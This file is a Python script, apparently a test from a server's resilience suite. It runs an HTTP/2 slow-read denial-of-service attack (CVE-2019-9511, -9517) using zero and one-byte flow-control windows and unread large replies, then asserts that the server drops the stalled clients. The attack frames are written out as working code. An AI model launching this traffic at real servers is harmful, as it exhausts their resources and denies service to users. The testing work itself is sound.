#!/usr/bin/python3
"""Slow read: large answers asked for and not read. By TCP's window, by HTTP/2's (an initial window of nothing, then of a byte at a
time, CVE-2019-9511 and -9517), and left so."""
import struct
import time

from attacker import Peer, call, h2, main

MARK = ("worker.readers_stalled", "worker.readers_cut", "worker.encode_waits", "worker.calls_held")
ENDED = False
SIZE = 200000


def attack(run):
    none, wide = struct.pack(">HI", 4, 0), struct.pack(">HI", 4, 2**31 - 1)
    peers = [Peer(run, settings=none) for _ in range(20)]
    peers += [Peer(run, settings=wide, deaf=True, receive_buffer=4096) for _ in range(20)]
    for peer in peers:
        if peer.deaf:
            peer.send(h2.frame(h2.WINDOW, 0, 0, (2**31 - 70000).to_bytes(4, "big")))
        peer.send(b"".join(call(s, reply_bytes=SIZE) for s in range(1, 200, 2)), 200)
    # Until the server has given up calls of each that takes a byte at a time: taking something is not enough.
    begun = time.monotonic()
    while run.going() or (time.monotonic() < begun + 60 and any(p.open and not p.answers for p in peers[:20])):
        for peer in peers[:20]:
            peer.send(b"".join(h2.frame(h2.WINDOW, 0, s, (1).to_bytes(4, "big")) for s in range(1, 20, 2)), 10)
            peer.wait(0.004)
    assert all(not p.open or p.answers for p in peers[:20]), "who takes a byte at a time holds its answers for ever"
    for peer in peers:
        peer.close()


if __name__ == "__main__":
    main(attack)
